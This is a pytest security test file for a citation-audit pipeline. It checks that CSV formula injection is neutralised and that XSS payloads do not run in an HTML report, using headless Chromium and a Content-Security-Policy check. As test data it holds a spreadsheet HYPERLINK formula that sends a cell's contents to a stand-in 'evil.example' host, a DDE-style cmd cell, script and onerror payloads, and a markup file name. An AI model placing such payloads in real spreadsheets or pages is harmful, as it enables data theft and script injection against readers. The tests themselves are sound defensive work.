"""An article built to attack its reviewer: formula cells for the spreadsheet, a `<script>`
and an `onerror=` image for the browser, and a file name that is itself markup.

The CSV tests prove every formula-looking cell is neutralised and the files are encoded so
that spreadsheet programs read them as UTF-8. The browser tests load the report in a real
headless Chromium (Debian's `chromium`; `make browser` installs it) and prove that no script
ran: a control page with the same payloads unescaped shows that the harness does see a script
run, the report shows it did not, and the report with a raw script slipped into it shows that
the Content-Security-Policy blocks what escaping might one day miss.
"""
from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from bs4 import BeautifulSoup

from pipeline.cli import main
from pipeline.outputs.csv_tables import CSV_ENCODING, FORMULA_TRIGGERS
from tests.conftest import ROOT, block_network

ATTACK = ROOT / "tests" / "data" / "report" / "attack-article.txt"
HOSTILE_NAME = "attack-<img src=x onerror=alert(1)>"
REPORT_TITLE = "Citation audit report"
# what an executed payload leaves behind: it sets document.title and a data-pwned attribute
PAYLOAD = ("<script>document.title='PWNED';document.body.setAttribute('data-pwned','script')</script>"
           "<img src=x onerror=\"document.body.setAttribute('data-pwned-img','onerror')\">")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> Path:
    """The out folder of a run over the attack article (offline: references stay unchecked)."""
    base = tmp_path_factory.mktemp("attack")
    raw = base / "raw"
    raw.mkdir()
    shutil.copy(ATTACK, raw / f"{HOSTILE_NAME}.txt")
    out = base / "out"
    with pytest.MonkeyPatch.context() as monkeypatch:
        block_network(monkeypatch)
        assert main(["run", "--raw", str(raw), "--out", str(out), "--offline", "--cache-dir", str(base / "cache"),
                     "--jobs", "1"], environ={}) == 0
    return out


def _cells(path: Path) -> list[dict]:
    with open(path, encoding=CSV_ENCODING, newline="") as handle:
        return list(csv.DictReader(handle))


def test_formula_cells_are_neutralised_in_every_table(attacked):
    claims = _cells(attacked / "claims.csv")
    sentences = [row["sentence"] for row in claims]
    assert '\'=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the study")' in sentences
    assert any(s.startswith("'@SUM(1+1)*cmd|") for s in sentences)
    blocks = _cells(attacked / "blocks.csv")
    assert any(row["text"].startswith("'=HYPERLINK(") for row in blocks)
    assert any(row["text"].startswith("'@SUM(") for row in blocks)
    references = _cells(attacked / "references.csv")
    assert any(row["raw"].startswith("'=HYPERLINK(") for row in references)
    for name in ("blocks.csv", "claims.csv", "references.csv"):
        for row in _cells(attacked / name):
            for column, cell in row.items():
                if cell.startswith(FORMULA_TRIGGERS):
                    float(cell)  # only a plain number may start with - or +; anything else was defused


def test_tables_are_utf8_with_a_byte_order_mark_and_keep_the_text(attacked):
    for name in ("blocks.csv", "claims.csv", "references.csv"):
        data = (attacked / name).read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), f"{name}: Excel and LibreOffice detect UTF-8 by the BOM"
        data.decode("utf-8")
        assert b"\r\n" in data
    frame = pd.read_csv(attacked / "claims.csv", encoding=CSV_ENCODING, dtype=str, keep_default_na=False)
    visceral = frame[frame["sentence"].str.startswith("Visceral fat")]["sentence"].iloc[0]
    assert "Lindström’s Björn cohort <img src=x onerror=" in visceral  # text kept exactly, only the cell start changes
    assert set(frame["article"]) == {HOSTILE_NAME}


def _chromium() -> str:
    for name in ("chromium", "chromium-browser"):
        found = shutil.which(name)
        if found:
            return found
    pytest.skip("Chromium is not installed, so the report was not checked in a real browser: run `make browser` "
                "(Debian: `apt-get install chromium`, as root) and rerun the tests")


def dump_dom(page: Path, profile: Path) -> BeautifulSoup:
    """The page's DOM after loading (and after any script that could run ran), from headless Chromium."""
    completed = subprocess.run(
        [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--no-first-run", "--host-resolver-rules=MAP * ~NOTFOUND",
         f"--user-data-dir={profile}", "--dump-dom", page.resolve().as_uri()],
        capture_output=True, text=True, timeout=180)
    assert completed.returncode == 0 and "<html" in completed.stdout, completed.stderr[-2000:]
    return BeautifulSoup(completed.stdout, "html.parser")


def _ran(dom: BeautifulSoup) -> list[str]:
    """The traces an executed payload leaves: a changed title, data-pwned* attributes."""
    traces = [f"title {dom.title.string!r}"] if dom.title and dom.title.string == "PWNED" else []
    for tag in dom.find_all(True):
        traces += [f"{tag.name}[{name}]" for name in tag.attrs if name.startswith("data-pwned")]
    return traces


def test_the_harness_sees_a_script_run_when_one_can(tmp_path):
    page = tmp_path / "control.html"
    page.write_text(f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>control</title></head>"
                    f"<body><p>unescaped: {PAYLOAD}</p></body></html>", encoding="utf-8")
    assert _ran(dump_dom(page, tmp_path / "profile")) == ["title 'PWNED'", "body[data-pwned]", "body[data-pwned-img]"]


def test_no_script_runs_in_the_report_and_the_payloads_are_shown_as_text(attacked, tmp_path):
    dom = dump_dom(attacked / "report.html", tmp_path / "profile")
    assert _ran(dom) == []
    assert dom.title.string == REPORT_TITLE
    assert not dom.find_all(["script", "img", "iframe", "object", "embed"])
    text = dom.get_text()
    assert "<script>document.title='PWNED';document.body.setAttribute('data-pwned','script')</script>" in text
    assert "<img src=x onerror=\"document.title='PWNED';" in text
    assert HOSTILE_NAME in text  # the article name is markup too, shown as text
    assert "Regular exercise improves insulin sensitivity" in text


def test_the_content_security_policy_blocks_a_script_that_slipped_past_escaping(attacked, tmp_path):
    html = (attacked / "report.html").read_text(encoding="utf-8")
    assert html.count("<body>") == 1
    page = tmp_path / "report-with-raw-script.html"
    page.write_text(html.replace("<body>", "<body>" + PAYLOAD), encoding="utf-8")
    dom = dump_dom(page, tmp_path / "profile")
    assert dom.find("script") is not None, "the raw script is in the page"
    assert _ran(dom) == [] and dom.title.string == REPORT_TITLE
